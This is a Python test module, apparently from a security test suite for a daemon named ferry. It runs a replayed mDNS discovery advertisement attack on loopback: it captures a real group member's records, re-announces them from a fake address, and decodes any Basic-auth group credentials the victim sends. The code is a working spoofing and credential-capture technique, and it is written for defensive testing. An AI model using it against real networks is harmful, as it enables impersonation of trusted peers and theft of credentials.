"""The replayed discovery advertisement (attack 6), on the loopback's multicast DNS.

The daemon under test (the victim) runs with `--discover GROUP --group-secret S` and serves a
database `replay` beside `db`. This attacker:

1. listens to multicast DNS on lo (224.0.0.251:5353, SO_REUSEPORT beside the daemons);
2. starts a real member of the group (`ferry serve --discover GROUP --group-secret S`, serving
   `replay` only) and waits until the victim lists it as trusted (GET /_discovery) — the
   baseline: without it the replay would prove nothing (reported "not run" with the reason);
3. keeps the member's records as they were announced: SRV (its port), TXT (its id, dbs, grp
   and proof, byte for byte), and stops the member with SIGTERM (its goodbye: the victim drops
   it at once);
4. listens on 127.0.6.1 at the member's port and announces the member's records again,
   unchanged except the address record, which now says 127.0.6.1 (the instance and host names,
   the port and the TXT are the member's); it answers every query for them, as the member would;
5. records every request the victim makes to 127.0.6.1 (answered 503, closed), and whether its
   Authorization carries the group's credentials; polls the victim's GET /_discovery for the
   replayed instance (trusted? replicating?); at the end says goodbye for the replayed records.

Nothing here depends on the proof's format: the TXT is replayed as captured. The proof binds
ID, port and pin (Protocol/dns-sd.md, "Groups and trust"), not the address, so on current
builds the victim trusts the replay and sends the credentials; a proof that binds the address
(or expires) makes this row pass."""
from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import os
import selectors
import signal
import socket
import struct
import subprocess
import time

from daemon import basic, die_with_parent, stop_process

MDNS = ("224.0.0.251", 5353)
FAKE_ADDR = "127.0.6.1"
T_A, T_PTR, T_TXT, T_SRV, T_NSEC, T_ANY = 1, 12, 16, 33, 47, 255


# --- a little DNS ------------------------------------------------------------------------------------

def read_name(buf: bytes, off: int) -> tuple[str, int]:
    labels: list[str] = []
    end = None
    hops = 0
    while True:
        n = buf[off]
        if n & 0xC0 == 0xC0:
            if end is None:
                end = off + 2
            off = ((n & 0x3F) << 8) | buf[off + 1]
            hops += 1
            if hops > 64:
                raise ValueError("name loop")
            continue
        off += 1
        if n == 0:
            break
        labels.append(buf[off:off + n].decode("utf-8", "replace"))
        off += n
    return ".".join(labels), (end if end is not None else off)


def parse(buf: bytes) -> tuple[int, list[tuple[str, int, int]], list[dict]]:
    """(flags, questions [(name, type, class)], records [{name, type, cls, ttl, rdata, ...}])."""
    _, flags, qd, an, ns, ar = struct.unpack("!6H", buf[:12])
    off = 12
    qs = []
    for _ in range(qd):
        name, off = read_name(buf, off)
        t, c = struct.unpack("!HH", buf[off:off + 4])
        off += 4
        qs.append((name.lower(), t, c))
    recs = []
    for _ in range(an + ns + ar):
        name, off = read_name(buf, off)
        t, c, ttl, ln = struct.unpack("!HHIH", buf[off:off + 10])
        off += 10
        rd = buf[off:off + ln]
        r = {"name": name, "type": t, "cls": c, "ttl": ttl, "rdata": rd}
        if t == T_SRV:
            r["port"] = struct.unpack("!H", rd[4:6])[0]
            r["target"] = read_name(buf, off + 6)[0]
        elif t == T_PTR:
            r["target"] = read_name(buf, off)[0]
        elif t == T_TXT:
            r["txt"] = txt_pairs(rd)
        elif t == T_A and ln == 4:
            r["addr"] = socket.inet_ntoa(rd)
        off += ln
        recs.append(r)
    return flags, qs, recs


def txt_pairs(rd: bytes) -> dict[str, str]:
    out, i = {}, 0
    while i < len(rd):
        n = rd[i]
        s = rd[i + 1:i + 1 + n].decode("utf-8", "replace")
        k, _, v = s.partition("=")
        out[k.lower()] = v
        i += 1 + n
    return out


def name_bytes(name: str) -> bytes:
    out = b""
    for label in name.rstrip(".").split("."):
        b = label.encode()
        out += bytes([len(b)]) + b
    return out + b"\0"


def rr(name: str, t: int, cls: int, ttl: int, rdata: bytes) -> bytes:
    return name_bytes(name) + struct.pack("!HHIH", t, cls, ttl, len(rdata)) + rdata


def response(instance: str, host: str, port: int, txt: bytes, addr: str, ttl_scale: int = 1) -> bytes:
    """An unsolicited mDNS response: PTR, SRV, TXT and A (TTL 0 for a goodbye: ttl_scale 0)."""
    service = "_ferry._tcp.local"
    srv = struct.pack("!HHH", 0, 0, port) + name_bytes(host)
    recs = [rr(service, T_PTR, 1, 4500 * ttl_scale, name_bytes(instance)),
            rr(instance, T_SRV, 0x8001, 120 * ttl_scale, srv),
            rr(instance, T_TXT, 0x8001, 4500 * ttl_scale, txt),
            rr(host, T_A, 0x8001, 120 * ttl_scale, socket.inet_aton(addr))]
    return struct.pack("!6H", 0, 0x8400, 0, len(recs), 0, 0) + b"".join(recs)


def mdns_socket() -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("", 5353))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(MDNS[0]) + socket.inet_aton("127.0.0.1"))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    s.setblocking(False)
    return s


# --- the attack -------------------------------------------------------------------------------------

def _get(port: int, path: str, auth: str, timeout: float = 5):
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        c.request("GET", path, headers={"Authorization": auth})
        r = c.getresponse()
        body = r.read()
        return r.status, json.loads(body) if body else None
    finally:
        c.close()


def _discovery(ctx, auth: str) -> list[dict]:
    try:
        st, body = _get(ctx.port, "/_discovery", auth)
        return body.get("peers", []) if st == 200 and isinstance(body, dict) else []
    except (OSError, ValueError, http.client.HTTPException):
        return []


def run(ctx) -> dict:
    p = ctx.p
    group, secret = p["group"], p["group_secret"]
    auth = basic(ctx.user, ctx.password)
    group_user = f"_group.{group}"
    group_pw = hmac.new(secret.encode(), f"ferry-group-password/v1|{group}".encode(), hashlib.sha256).hexdigest()
    result: dict = {"failures": []}

    def not_run(why: str) -> dict:
        ctx.ready({"not_run": why})
        while not ctx.over():
            ctx.stop.wait(0.25)
        return {"got": f"not run: {why}", "not_run": why, "failures": []}

    try:
        ms = mdns_socket()
    except OSError as e:
        return not_run(f"cannot listen to multicast DNS on lo ({e})")
    member_dir = os.path.join(p["run_dir"], "replay-member")
    name = "hostile-member-" + os.urandom(3).hex()
    r = subprocess.run([p["bin"], "db", "create", "--data", member_dir, "replay"], capture_output=True, text=True)
    if r.returncode != 0:
        return not_run(f"ferry db create failed: {r.stderr.strip()}")
    err = open(os.path.join(p["run_dir"], "replay-member.err"), "wb")
    member = subprocess.Popen([p["bin"], "serve", "--data", member_dir, "--port", "0", "--discover", group,
                               "--group-secret", secret, "--advertise-name", name],
                              stdout=subprocess.PIPE, stderr=err, stdin=subprocess.DEVNULL,
                              preexec_fn=die_with_parent(signal.SIGTERM))
    err.close()
    try:
        line = member.stdout.readline().decode(errors="replace") if member.stdout else ""
        if " at http://127.0.0.1:" not in line:
            return not_run(f"the member did not start: {line!r}")
        mport = int(line.split(" at http://127.0.0.1:")[1].split("/")[0])
        # capture its records, and wait until the victim trusts it
        captured: dict = {}
        member_id = None
        trusted_member = False
        end = time.monotonic() + 30
        while time.monotonic() < end and not ctx.over() and not (trusted_member and "txt" in captured and "srv" in captured):
            sel = selectors.DefaultSelector()
            sel.register(ms, selectors.EVENT_READ)
            for _ in sel.select(0.2):
                try:
                    buf, _src = ms.recvfrom(9000)
                    flags, _qs, recs = parse(buf)
                except (OSError, ValueError, IndexError, struct.error):
                    continue
                if not flags & 0x8000:
                    continue
                for rec in recs:
                    if rec["type"] == T_SRV and rec.get("port") == mport and rec["ttl"] > 0:
                        captured["srv"] = rec
                        captured["instance"] = rec["name"]
                        captured["host"] = rec["target"]
                    if rec["type"] == T_TXT and rec["name"].lower().startswith(name.lower()) and rec["ttl"] > 0:
                        captured["txt"] = rec
            sel.close()
            for peer in _discovery(ctx, auth):
                if peer.get("port") == mport and peer.get("name", "").startswith(name):
                    member_id = peer.get("id")
                    trusted_member = bool(peer.get("trusted"))
        if not trusted_member:
            return not_run("the victim never trusted the real member (discovery on lo not working here?)")
        if "txt" not in captured or "srv" not in captured:
            return not_run("the member's advertisement was not seen on lo")
        txt = captured["txt"]["rdata"]
        result["captured_txt"] = {k: v for k, v in captured["txt"]["txt"].items()}
        # the member leaves (goodbye), and the victim lets it go
        stop_process(member, signal.SIGTERM, 10)
        end = time.monotonic() + 10
        while time.monotonic() < end and any(pp.get("id") == member_id for pp in _discovery(ctx, auth)):
            ctx.stop.wait(0.1)
        # the fake peer: the member's port on another address
        lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        lst.bind((FAKE_ADDR, mport))
        lst.listen(64)
        lst.setblocking(False)
        packet = response(captured["instance"], captured["host"], mport, txt, FAKE_ADDR)
        names = {"_ferry._tcp.local", captured["instance"].lower(), captured["host"].lower()}
        sel = selectors.DefaultSelector()
        sel.register(ms, selectors.EVENT_READ, "mdns")
        sel.register(lst, selectors.EVENT_READ, "listen")
        ctx.ready({"member_port": mport, "instance": captured["instance"]})
        ms.sendto(packet, MDNS)
        announced = 1
        next_announce = time.monotonic() + 1
        last_answer = 0.0
        requests: list[dict] = []
        conns: dict = {}
        trusted_replay = False
        replicating: set[str] = set()
        next_poll = time.monotonic()
        while not ctx.over():
            now = time.monotonic()
            if now >= next_announce and announced < 8:
                ms.sendto(packet, MDNS)
                announced += 1
                next_announce = now + 2 ** announced / 2
            if now >= next_poll:
                next_poll = now + 1
                for pp in _discovery(ctx, auth):
                    if FAKE_ADDR in (pp.get("addresses") or []) or pp.get("host") == FAKE_ADDR:
                        trusted_replay |= bool(pp.get("trusted"))
                        replicating |= set(pp.get("replicating") or [])
            for key, _ in sel.select(0.1):
                if key.data == "mdns":
                    try:
                        buf, src = ms.recvfrom(9000)
                        flags, qs, _ = parse(buf)
                    except (OSError, ValueError, IndexError, struct.error):
                        continue
                    if not flags & 0x8000 and src[1] == 5353 and any(q[0] in names for q in qs) \
                            and time.monotonic() - last_answer > 0.25:
                        ms.sendto(packet, MDNS)
                        last_answer = time.monotonic()
                elif key.data == "listen":
                    try:
                        c, _ = lst.accept()
                    except OSError:
                        continue
                    c.setblocking(False)
                    conns[c] = b""
                    sel.register(c, selectors.EVENT_READ, "conn")
                else:
                    c = key.fileobj
                    try:
                        data = c.recv(16384)
                    except OSError:
                        data = b""
                    conns[c] += data
                    head = conns[c]
                    if b"\r\n\r\n" in head or not data or len(head) > 65536:
                        lines = head.split(b"\r\n\r\n")[0].decode(errors="replace").split("\r\n")
                        hdrs = {ln.split(":", 1)[0].strip().lower(): ln.split(":", 1)[1].strip()
                                for ln in lines[1:] if ":" in ln}
                        got_auth = hdrs.get("authorization", "")
                        creds = None
                        if got_auth.lower().startswith("basic "):
                            try:
                                creds = base64.b64decode(got_auth[6:]).decode(errors="replace")
                            except ValueError:
                                creds = "?"
                        requests.append({"line": lines[0] if lines else "", "creds": creds,
                                         "group_credentials": creds == f"{group_user}:{group_pw}"})
                        try:
                            c.send(b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                        except OSError:
                            pass
                        sel.unregister(c)
                        del conns[c]
                        c.close()
        try:
            ms.sendto(response(captured["instance"], captured["host"], mport, txt, FAKE_ADDR, ttl_scale=0), MDNS)
        except OSError:
            pass
        for c in list(conns):
            c.close()
        lst.close()
        sel.close()
        with_creds = [q for q in requests if q["group_credentials"]]
        got = (f"replayed {captured['instance'].split('.')[0]} (TXT as captured) from {FAKE_ADDR}:{mport}: "
               f"the daemon {'TRUSTED it' if trusted_replay else 'did not trust it'}"
               + (f" (replicating {', '.join(sorted(replicating))})" if replicating else "")
               + f"; {len(requests)} requests to the fake address"
               + (f", {len(with_creds)} with the group's credentials ({with_creds[0]['line'][:60]})" if with_creds else
                  (", none with credentials" if requests else "")))
        if trusted_replay:
            result["failures"].append("trusted the replayed advertisement")
        if with_creds:
            result["failures"].append("sent the group's credentials to the replaying address")
        result.update({"got": got, "trusted": trusted_replay, "replicating": sorted(replicating),
                       "requests": len(requests), "with_group_credentials": len(with_creds),
                       "request_lines": [q["line"] for q in requests[:5]]})
        return result
    finally:
        if member.poll() is None:
            member.kill()
            member.wait()
        ms.close()
